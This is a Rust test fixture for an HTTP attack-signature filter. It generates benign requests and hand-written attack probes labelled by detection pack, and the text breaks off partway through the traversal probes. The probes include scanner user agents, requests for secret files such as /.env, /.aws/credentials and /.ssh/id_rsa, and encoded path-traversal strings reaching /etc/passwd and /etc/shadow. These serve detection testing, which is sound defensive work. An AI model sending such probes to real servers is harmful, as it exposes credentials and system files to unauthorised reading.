//! Request corpora for signature tests: realistic benign traffic that must never match, and
//! hand-written attack probes labelled with the pack that must catch them.
//!
//! Everything is generated deterministically from small lists, so a failure reproduces.

use percent_encoding::{utf8_percent_encode, AsciiSet, NON_ALPHANUMERIC};

/// One request as the layer sees it.
#[derive(Clone, Debug)]
pub struct Req {
    /// The HTTP method.
    pub method: &'static str,
    /// The raw path and query, as on the request line.
    pub path_and_query: String,
    /// The `User-Agent` header; empty when absent.
    pub user_agent: String,
}

impl Req {
    fn new(method: &'static str, path_and_query: impl Into<String>, ua: &str) -> Self {
        Req {
            method,
            path_and_query: path_and_query.into(),
            user_agent: ua.to_owned(),
        }
    }

    fn get(path_and_query: impl Into<String>, ua: &str) -> Self {
        Req::new("GET", path_and_query, ua)
    }

    /// The raw path.
    pub fn path(&self) -> &str {
        self.path_and_query
            .split_once('?')
            .map_or(&*self.path_and_query, |(p, _)| p)
    }

    /// The raw query without `?`, if any.
    pub fn query(&self) -> Option<&str> {
        self.path_and_query.split_once('?').map(|(_, q)| q)
    }

    /// The user agent, if any.
    pub fn user_agent(&self) -> Option<&str> {
        Some(self.user_agent.as_str()).filter(|ua| !ua.is_empty())
    }
}

/// What browsers leave unescaped in form values (besides alphanumerics).
const FORM: &AsciiSet = &NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'_')
    .remove(b'.')
    .remove(b'*');

/// Form-encodes a value the way a browser submits a search box: spaces as `+`.
pub fn form(value: &str) -> String {
    utf8_percent_encode(value, FORM)
        .to_string()
        .replace("%20", "+")
}

/// Encodes a value the way many JavaScript clients do (`encodeURIComponent`): spaces as `%20`,
/// and `'`, `(`, `)`, `!`, `~` left alone.
fn component(value: &str) -> String {
    const JS: &AsciiSet = &FORM
        .remove(b'\'')
        .remove(b'(')
        .remove(b')')
        .remove(b'!')
        .remove(b'~');
    utf8_percent_encode(value, JS).to_string()
}

pub const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729; Media Center PC 6.0)",
    "Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) AppleWebkit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.3;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
    "Mozilla/5.0 (Linux; Android 12; SM-A525F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 Instagram 312.0.0.32.112 Android",
];

pub const BOT_UAS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/124.0.6367.91 Safari/537.36",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
];

pub const MONITOR_UAS: &[&str] = &[
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Datadog/Synthetics",
    "Datadog Agent/7.52.0",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "GoogleHC/1.0",
    "Prometheus/2.51.0",
    "Blackbox Exporter/0.24.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 StatusCake",
    "Site24x7",
    "NewRelicPinger/1.0 (1234567)",
    "Amazon-Route53-Health-Check-Service (ref 3c9a7e0e-5f2b-4d5e-9b3a-2f0f3c1d8e7a; report http://amzn.to/1vsZADi)",
    "consul-health-check",
];

pub const CLIENT_UAS: &[&str] = &[
    "curl/8.4.0",
    "curl/7.81.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "Python-urllib/3.11",
    "aiohttp/3.9.3",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.37.3",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "undici",
    "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "reqwest/0.12.4",
    "Dart/3.3 (dart:io)",
    "ShopApp/3.2.1 (com.example.shop; build:412; iOS 17.4.1) Alamofire/5.9.0",
    "ShopApp/3.2.1 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "grpc-go/1.62.1",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/2f2b4a1",
];

/// Every benign user agent.
pub fn benign_uas() -> Vec<&'static str> {
    [BROWSER_UAS, BOT_UAS, MONITOR_UAS, CLIENT_UAS].concat()
}

const PAGES: &[&str] = &[
    "/",
    "/about",
    "/about/team",
    "/contact",
    "/pricing",
    "/careers",
    "/careers/senior-backend-engineer",
    "/login",
    "/logout",
    "/signup",
    "/account",
    "/account/settings",
    "/account/security",
    "/account/orders",
    "/users/me",
    "/users/me/avatar",
    "/cart",
    "/checkout",
    "/checkout/shipping",
    "/checkout/payment",
    "/wishlist",
    "/help",
    "/help/returns",
    "/help/shipping-and-delivery",
    "/faq",
    "/terms",
    "/privacy",
    "/cookies",
    "/sitemap.xml",
    "/robots.txt",
    "/favicon.ico",
    "/manifest.webmanifest",
    "/.well-known/security.txt",
    "/.well-known/openid-configuration",
    "/.well-known/apple-app-site-association",
    "/backup-policy",
    "/docs",
    "/docs/git-tutorial",
    "/docs/getting-started",
    "/docs/api/authentication",
    "/docs/config/environment",
    "/docs/admin-guide",
    "/docs/sql-reference/select",
    "/docs/cli/commands",
    "/blog",
    "/blog/tags/rust",
    "/blog/2024/03/env-vars-explained",
    "/blog/2023/11/why-we-moved-off-wordpress",
    "/blog/2024/01/the-etc-directory-demystified",
    "/status",
    "/health",
    "/healthz",
    "/readyz",
    "/livez",
    "/metrics",
    "/actuator/health",
    "/actuator/info",
    "/admin",
    "/admin/users",
    "/dashboard",
    "/settings/profile",
    "/notifications",
    "/feed.xml",
    "/rss",
    "/de/produkte",
    "/fr/a-propos",
    "/es/ayuda/devoluciones",
    "/ja/%E3%83%98%E3%83%AB%E3%83%97",
    "/caf%C3%A9-menu",
    "/stores/new-york/5th-avenue",
    "/collections/summer-2024",
    "/collections/back-to-school",
    "/gift-cards",
    "/press",
    "/investors/annual-report-2023",
    "/legal/dpa",
    "/config",
    "/env",
    "/git",
    "/old-site",
    "/archive/2019",
    "/downloads/app-1.4.2.dmg",
    "/downloads/release-2.0.0.tar.gz",
    "/downloads/whitepaper.pdf",
    "/downloads/data.zip",
    "/downloads/sample-data.sql.txt",
    "/api/v1/export/orders.csv",
];

const SEARCH_TERMS: &[&str] = &[
    "o'neill",
    "shaquille o'neal",
    "o'reilly books",
    "women's running shoes",
    "men's jackets",
    "kids' toys",
    "rock 'n' roll",
    "don't starve",
    "l'oréal shampoo",
    "d'angelo",
    "macy's coupons",
    "select fit jeans",
    "union made",
    "union made boots",
    "drop shipping",
    "drop shipping suppliers",
    "and or",
    "this and that",
    "yes or no",
    "true or false quiz",
    "red and blue",
    "size 10 or 11",
    "1=1 math",
    "2+2=4",
    "e=mc2",
    "x > 5",
    "a < b",
    "price < 100",
    "rock & roll",
    "tom & jerry",
    "at&t",
    "h&m",
    "c++ tutorial",
    "c# vs java",
    "what is <b>bold</b>",
    "<b>",
    "<i>italic</i>",
    "list<object>",
    "vec<string>",
    "javascript: the good parts",
    "javascript tutorial",
    "jane.doe@example.com",
    "support+orders@example.co.uk",
    "$5",
    "under $50",
    "50%",
    "50% off",
    "100% cotton t-shirt",
    "5'11\" height",
    "6' 2\"",
    "12\" pizza",
    "\"exact phrase\"",
    "\"best\" -- reviews",
    "#1 bestseller",
    "#blessed",
    "where is my order",
    "update my address",
    "delete account",
    "insert coin",
    "select all",
    "order by price",
    "group by size",
    "sleep mask",
    "sleep apnea machine",
    "benchmark results 2024",
    "script writing course",
    "alert settings",
    "confirm email",
    "prompt engineering",
    "cat food",
    "cat | dog",
    "curl | bash",
    "ls 400 lexus",
    "id card holder",
    "echo dot",
    "ping pong table",
    "nc state",
    "ssh keys tutorial",
    "env vars",
    "etc",
    "1/2 inch pipe",
    "3/4 cup",
    "50/50",
    "a/b testing",
    "wait...what",
    "and/or",
    "node.js",
    "asp.net core",
    "www.example.com",
    "https://example.com/page?id=5",
    "{name}",
    "tシャツ",
    "café au lait",
    "naïve bayes",
    "schöne grüße",
    "¿dónde está?",
    "😀 emoji",
    "smith; jones",
    "one; two; three",
    "mix & match; save 20%",
    "win 10 upgrade",
    "boot camp",
    "admin panel design",
    "password manager",
    "union station",
    "information architecture",
    "load balancer",
    "char broil grill",
    "table for two",
    "drop table cloth",
    "the office (us)",
    "(555) 123-4567",
    "+1 555 0100",
    "iphone 15 pro (256gb)",
    "pasta; wine",
    "100% | free shipping",
];

const SLUGS: &[&str] = &[
    "classic-white-tee",
    "slim-fit-jeans",
    "select-fit-chinos",
    "union-made-work-boots",
    "merino-wool-sweater",
    "rain-jacket-2024",
    "kids-sneakers-velcro",
    "stainless-steel-water-bottle-750ml",
    "cast-iron-skillet-12in",
    "noise-cancelling-headphones",
    "usb-c-cable-2m",
    "mechanical-keyboard-tkl",
    "standing-desk-oak",
    "ergonomic-chair",
    "yoga-mat-6mm",
    "dumbbells-set-20kg",
    "espresso-machine",
    "french-press-1l",
    "organic-green-tea",
    "dark-roast-coffee-beans",
    "leather-wallet",
    "canvas-backpack",
    "sunglasses-polarized",
    "silk-scarf",
    "wool-beanie",
    "running-shoes-v3",
    "trail-shoes-gtx",
    "smart-watch-se",
    "phone-case-clear",
    "led-desk-lamp",
    "bed-sheets-queen",
    "memory-foam-pillow",
    "backup-battery-20000mah",
    "git-pocket-guide",
    "sql-cookbook-3rd-edition",
    "the-env-collection",
    "old-fashioned-glass-set",
    "cat-tree-deluxe",
    "drop-earrings-gold",
    "or-and-more-tote",
];

const COLORS: &[&str] = &["black", "white", "navy", "olive", "red", "heather-grey"];
const SIZES: &[&str] = &["xs", "s", "m", "l", "xl", "10", "10.5", "32x34"];
const SORTS: &[&str] = &[
    "price",
    "-price",
    "price_asc",
    "price_desc",
    "newest",
    "-created",
    "created_at:desc",
    "relevance",
    "rating",
    "name",
];

const API_COLLECTIONS: &[&str] = &[
    "orders",
    "users",
    "products",
    "invoices",
    "customers",
    "subscriptions",
    "events",
    "comments",
    "tickets",
    "payments",
];

const STATIC_ASSETS: &[&str] = &[
    "/static/app.3f2a.js",
    "/static/app.3f2a.js.map",
    "/static/vendor.91bc0e.js",
    "/static/styles.8d1e.css",
    "/static/runtime~main.a1b2c3.js",
    "/assets/index-Bx7kQ2.js",
    "/assets/index-D4mWz9.css",
    "/assets/fonts/inter-var.woff2",
    "/assets/fonts/roboto-mono.woff",
    "/assets/img/logo.svg",
    "/assets/img/hero@2x.webp",
    "/assets/img/og-image.png",
    "/images/products/classic-white-tee/1.jpg",
    "/images/products/classic-white-tee/2.jpg",
    "/images/avatars/default.png",
    "/favicon-32x32.png",
    "/apple-touch-icon.png",
    "/_next/static/chunks/pages/_app-8f3c2d.js",
    "/_next/static/chunks/webpack-2b1e.js",
    "/_next/static/css/7a9c.css",
    "/_next/image",
    "/build/bundle.js",
    "/js/jquery-3.7.1.min.js",
    "/css/bootstrap.min.css",
    "/wasm/engine_bg.wasm",
    "/static/config.json",
    "/static/env.js",
    "/static/locales/en/translation.json",
    "/media/videos/intro.mp4",
    "/media/podcast/episode-42.mp3",
    "/sw.js",
    "/workbox-4f2b.js",
];

const BLOG_SLUGS: &[&str] = &[
    "env-vars-explained",
    "git-tutorial-for-designers",
    "sql-injection-101-for-managers",
    "how-we-do-backups",
    "select-the-right-database",
    "union-of-two-sets",
    "drop-shipping-lessons",
    "script-to-screen",
    "the-etc-passwd-file-history",
    "a-b-testing-at-scale",
    "scaling-postgres",
    "rust-async-in-depth",
    "observability-without-tears",
    "when-not-to-use-microservices",
    "on-call-survival-guide",
    "password-less-login",
    "our-2023-annual-report",
    "hello-world",
    "cmd-line-tips",
    "ssti-what-is-it",
];

const FIRST_NAMES: &[&str] = &["ana", "bob", "chen", "dana", "eve", "farid", "gus", "hana"];

/// A deterministic pseudo-random sequence, so the corpus is the same on every run.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) as usize
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.next() % items.len()]
    }

    fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from_digit((self.next() % 16) as u32, 16).unwrap())
            .collect()
    }

    fn uuid(&mut self) -> String {
        format!(
            "{}-{}-4{}-a{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(3),
            self.hex(3),
            self.hex(12)
        )
    }
}

/// At least 1,200 realistic benign requests.
pub fn benign_requests() -> Vec<Req> {
    let mut rng = Lcg(0x5eed_cafe);
    let uas = benign_uas();
    let mut out = Vec::new();

    // Pages, each from several kinds of client.
    for (i, page) in PAGES.iter().enumerate() {
        out.push(Req::get(*page, BROWSER_UAS[i % BROWSER_UAS.len()]));
        out.push(Req::get(*page, BOT_UAS[i % BOT_UAS.len()]));
        out.push(Req::get(
            format!(
                "{page}?utm_source=newsletter&utm_medium=email&utm_campaign=spring_{}",
                2020 + i % 5
            ),
            rng.pick(BROWSER_UAS),
        ));
    }

    // Search boxes: form-encoded, encodeURIComponent-encoded, and raw from hand-typed URLs.
    for (i, term) in SEARCH_TERMS.iter().enumerate() {
        let ua = BROWSER_UAS[i % BROWSER_UAS.len()];
        out.push(Req::get(format!("/search?q={}", form(term)), ua));
        out.push(Req::get(
            format!(
                "/api/search?query={}&page={}&per_page=24&sort={}",
                component(term),
                1 + i % 7,
                rng.pick(SORTS)
            ),
            rng.pick(CLIENT_UAS),
        ));
        out.push(Req::get(
            format!("/products?q={}&category=all&in_stock=true", form(term)),
            rng.pick(BROWSER_UAS),
        ));
        if term
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"'.,-$@;:/".contains(&b))
        {
            out.push(Req::get(format!("/search?q={term}"), ua));
        }
    }

    // Product pages and catalogue navigation.
    for (i, slug) in SLUGS.iter().enumerate() {
        let ua = uas[i % uas.len()];
        out.push(Req::get(format!("/products/{slug}"), ua));
        out.push(Req::get(
            format!("/products/{slug}/reviews?page={}&sort=-helpful", 1 + i % 4),
            rng.pick(BROWSER_UAS),
        ));
        out.push(Req::get(
            format!("/api/v1/products/{slug}?include=variants,images"),
            rng.pick(CLIENT_UAS),
        ));
        out.push(Req::get(
            format!(
                "/p/{slug}?color={}&size={}",
                rng.pick(COLORS),
                rng.pick(SIZES)
            ),
            rng.pick(BROWSER_UAS),
        ));
        out.push(Req::new(
            "POST",
            format!("/cart/add?sku={}-{}&qty={}", slug, rng.hex(4), 1 + i % 3),
            rng.pick(BROWSER_UAS),
        ));
        out.push(Req::get(
            format!(
                "/images/products/{slug}/{}.jpg?w=640&h=640&fit=crop&q=80",
                1 + i % 5
            ),
            rng.pick(BROWSER_UAS),
        ));
    }

    // REST APIs with pagination, sorting, field selection and filters.
    for (i, coll) in API_COLLECTIONS.iter().enumerate() {
        for n in 0..10 {
            let ua = rng.pick(CLIENT_UAS);
            let q = match n {
                0 => "fields=id,name&sort=-created".to_owned(),
                1 => format!("page={}&per_page={}", 1 + i, [10, 25, 50, 100][n % 4]),
                2 => format!("limit=50&offset={}", 50 * i),
                3 => format!("cursor={}&limit=20", rng.hex(24)),
                4 => format!("sort={}&order=desc", rng.pick(SORTS)),
                5 => "filter[status]=active&filter[plan]=pro".to_owned(),
                6 => "filter%5Bstatus%5D=active&include=owner%2Citems".to_owned(),
                7 => format!(
                    "created_after=2024-03-01T00%3A00%3A00Z&created_before=2024-03-31T23%3A59%3A59Z&tz={}",
                    form("Europe/Berlin")
                ),
                8 => format!("ids={},{},{}", 100 + i, 200 + i, 300 + i),
                _ => format!("expand[]=customer&expand[]=invoice.lines&search={}", form(rng.pick(SEARCH_TERMS))),
            };
            out.push(Req::get(format!("/api/v1/{coll}?{q}"), ua));
            out.push(Req::get(format!("/api/v2/{coll}/{}", rng.uuid()), ua));
        }
        out.push(Req::new(
            "POST",
            format!("/api/v1/{coll}"),
            rng.pick(CLIENT_UAS),
        ));
        out.push(Req::new(
            "PATCH",
            format!("/api/v1/{coll}/{}", 1000 + i),
            rng.pick(CLIENT_UAS),
        ));
        out.push(Req::new(
            "DELETE",
            format!("/api/v1/{coll}/{}", 2000 + i),
            rng.pick(CLIENT_UAS),
        ));
    }
    out.push(Req::get(
        "/api/v1/orders?fields=id,name&sort=-created",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    ));

    // Static assets, usually with cache-busting.
    for (i, asset) in STATIC_ASSETS.iter().enumerate() {
        out.push(Req::get(*asset, rng.pick(BROWSER_UAS)));
        out.push(Req::get(
            format!("{asset}?v={}", rng.hex(8)),
            rng.pick(BROWSER_UAS),
        ));
        if i % 2 == 0 {
            out.push(Req::get(*asset, rng.pick(BOT_UAS)));
        }
    }
    out.push(Req::get(
        "/_next/image?url=%2Fimages%2Fproducts%2Fclassic-white-tee%2F1.jpg&w=1080&q=75",
        BROWSER_UAS[0],
    ));

    // The blog.
    for (i, slug) in BLOG_SLUGS.iter().enumerate() {
        let (year, month) = (2019 + i % 6, 1 + i % 12);
        out.push(Req::get(
            format!("/blog/{year}/{month:02}/{slug}"),
            rng.pick(BROWSER_UAS),
        ));
        out.push(Req::get(format!("/blog/{slug}"), rng.pick(BOT_UAS)));
        out.push(Req::get(
            format!("/blog/{slug}?ref=twitter#comments"),
            rng.pick(BROWSER_UAS),
        ));
        out.push(Req::get(format!("/blog/{slug}/amp"), rng.pick(BOT_UAS)));
    }

    // Health checks and monitors.
    for (i, ua) in MONITOR_UAS.iter().enumerate() {
        for path in [
            "/health",
            "/healthz",
            "/readyz",
            "/status",
            "/metrics",
            "/ping",
            "/actuator/health",
        ] {
            if (i + path.len()) % 2 == 0 {
                out.push(Req::get(path, ua));
            }
        }
        out.push(Req::get("/", ua));
        out.push(Req::get(
            format!("/health?check=db&ts={}", 1_711_000_000 + i * 60),
            ua,
        ));
    }

    // Auth and account flows with their usual parameters.
    for i in 0..40 {
        let ua = rng.pick(BROWSER_UAS);
        let name = rng.pick(FIRST_NAMES);
        let q = match i % 10 {
            0 => "next=%2Faccount%2Forders".to_owned(),
            1 => format!(
                "return_to={}",
                form("https://shop.example.com/checkout?step=payment")
            ),
            2 => format!("code={}&state={}", rng.hex(40), rng.hex(16)),
            3 => format!("email={}", form(&format!("{name}.smith+shop@example.com"))),
            4 => format!("token={}&email={name}%40example.org", rng.hex(64)),
            5 => "error=access_denied&error_description=The+user+denied+the+request".to_owned(),
            6 => format!(
                "redirect_uri={}",
                form("https://app.example.com/oauth/callback")
            ),
            7 => "lang=de-DE&currency=EUR&country=DE".to_owned(),
            8 => format!("invite={}&team=acme-inc", rng.hex(12)),
            _ => "prompt=consent&scope=openid+email+profile&response_type=code".to_owned(),
        };
        let path = [
            "/login",
            "/signup",
            "/oauth/callback",
            "/password/reset",
            "/verify-email",
        ][i % 5];
        out.push(Req::get(format!("{path}?{q}"), ua));
        out.push(Req::new("POST", path, ua));
    }

    // GraphQL over GET and JSON-ish query parameters.
    for (i, ua) in CLIENT_UAS.iter().enumerate() {
        let gql = [
            "{ me { id name email } }",
            "query Orders($first: Int) { orders(first: $first) { edges { node { id total } } } }",
            "{ product(slug: \"slim-fit-jeans\") { id title price } }",
        ][i % 3];
        out.push(Req::get(
            format!(
                "/graphql?query={}&variables={}",
                component(gql),
                component("{\"first\":10}")
            ),
            ua,
        ));
        out.push(Req::get(
            format!(
                "/api/v1/reports?filter={}",
                component("{\"status\":\"paid\",\"or\":[{\"total\":{\"gt\":100}}]}")
            ),
            ua,
        ));
    }

    // Every user agent on a couple of ordinary URLs.
    for (i, ua) in uas.iter().enumerate() {
        out.push(Req::get("/", ua));
        out.push(Req::get(
            format!("/products?page={}&sort=price", 1 + i % 9),
            ua,
        ));
        out.push(Req::get(format!("/api/products/{}", 10 + i), ua));
        out.push(Req::new("HEAD", "/", ua));
    }

    // Odd but legitimate: empty query, lone flag, trailing '?', no user agent.
    out.push(Req::get("/products?", BROWSER_UAS[0]));
    out.push(Req::get("/products?in_stock", BROWSER_UAS[1]));
    out.push(Req::get("/api/products/42?page=2&sort=price", ""));
    out.push(Req::get(
        "/download?file=report-2024-q1.pdf",
        BROWSER_UAS[2],
    ));
    out.push(Req::get("/files/shared/notes.txt", BROWSER_UAS[3]));
    out.push(Req::get("/u/~jane/profile", BROWSER_UAS[4]));
    out.push(Req::get("/calc?expr=2%2A3%2B4", BROWSER_UAS[5]));
    out
}

fn atk(pack: &'static str, path_and_query: &str, ua: &str) -> (&'static str, Req) {
    (pack, Req::get(path_and_query, ua))
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

/// Hand-written attack probes, at least ten per built-in pack, each with the pack that must
/// catch it.
pub fn attack_requests() -> Vec<(&'static str, Req)> {
    vec![
        // scanner_ua
        atk("scanner_ua", "/", "sqlmap/1.8.3#stable (https://sqlmap.org)"),
        atk("scanner_ua", "/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
        atk("scanner_ua", "/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        atk("scanner_ua", "/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        atk("scanner_ua", "/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        atk("scanner_ua", "/", "Mozilla/5.0 zgrab/0.x"),
        atk("scanner_ua", "/admin", "gobuster/3.6"),
        atk("scanner_ua", "/admin", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
        atk("scanner_ua", "/admin", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) dirb"),
        atk("scanner_ua", "/FUZZ", "Wfuzz/3.1.0"),
        atk("scanner_ua", "/FUZZ", "Fuzz Faster U Fool v2.1.0-dev"),
        atk("scanner_ua", "/", "feroxbuster/2.10.2"),
        atk("scanner_ua", "/login", "Mozilla/4.0 (Hydra)"),
        atk("scanner_ua", "/", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        atk("scanner_ua", "/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Acunetix-Product"),
        atk("scanner_ua", "/", "Mozilla/5.0 (compatible; Netsparker)"),
        atk("scanner_ua", "/", "Mozilla/5.0 (compatible; OpenVAS-VT 22.4)"),
        atk("scanner_ua", "/", "w3af.org"),
        atk("scanner_ua", "/", "Nessus SOAP"),
        atk("scanner_ua", "/", "Mozilla/5.0 jaeles"),
        atk("scanner_ua", "/", "WhatWeb/0.5.5"),
        atk("scanner_ua", "/", "commix/v3.9-stable (https://commixproject.com)"),
        // sensitive_file
        atk("sensitive_file", "/.env", CHROME),
        atk("sensitive_file", "/api/.env.local", "curl/8.4.0"),
        atk("sensitive_file", "/.git/config", "curl/8.4.0"),
        atk("sensitive_file", "/.git/HEAD", "Go-http-client/1.1"),
        atk("sensitive_file", "/.svn/entries", CHROME),
        atk("sensitive_file", "/.hg/hgrc", CHROME),
        atk("sensitive_file", "/.DS_Store", CHROME),
        atk("sensitive_file", "/index.php.bak", CHROME),
        atk("sensitive_file", "/config.php.old", CHROME),
        atk("sensitive_file", "/dump.sql", CHROME),
        atk("sensitive_file", "/.index.php.swp", CHROME),
        atk("sensitive_file", "/index.php~", CHROME),
        atk("sensitive_file", "/backup.zip", CHROME),
        atk("sensitive_file", "/wp-login.php", CHROME),
        atk("sensitive_file", "/wp-admin/setup-config.php", CHROME),
        atk("sensitive_file", "/xmlrpc.php", CHROME),
        atk("sensitive_file", "/phpmyadmin/index.php", CHROME),
        atk("sensitive_file", "/adminer.php", CHROME),
        atk("sensitive_file", "/server-status", CHROME),
        atk("sensitive_file", "/.aws/credentials", CHROME),
        atk("sensitive_file", "/.ssh/id_rsa", CHROME),
        atk("sensitive_file", "/web.config", CHROME),
        atk("sensitive_file", "/.htaccess", CHROME),
        atk("sensitive_file", "/.htpasswd", CHROME),
        atk("sensitive_file", "/config.php", CHROME),
        atk("sensitive_file", "/actuator/env", CHROME),
        atk("sensitive_file", "/debug/pprof/heap", CHROME),
        atk("sensitive_file", "/%2Eenv", CHROME),
        atk("sensitive_file", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", CHROME),
        // traversal
        atk("traversal", "/static/..%2f..%2f..%2fetc%2fpasswd", CHROME),
        atk("traversal", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", CHROME),
        atk("traversal", "/static/%252e%252e%252f%252e%252e%252fsecret", CHROME),
        atk("traversal", "/static/..%255c..%255cwindows%255cwin.ini", CHROME),
        atk("traversal", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", CHROME),
        atk("traversal", "/static/..%c0%af..%c0%afboot.ini", CHROME),
        atk("traversal", "/static/..\\..\\..\\windows\\win.ini", CHROME),
        atk("traversal", "/download?file=../../../../etc/passwd", CHROME),
        atk("traversal", "/download?file=..%2F..%2F..%2Fetc%2Fshadow", CHROME),
        atk("traversal", "/download?file=....//....//....//etc/passwd", CHROME),
        atk("traversal", "/view?page=../.env", CHROME),
        atk("traversal", "/view?template=%2e%2e%5c%2e%2e%5capp.config", CHROME),
        atk("traversal", "/api/files/..;/..;/admin", CHROME),
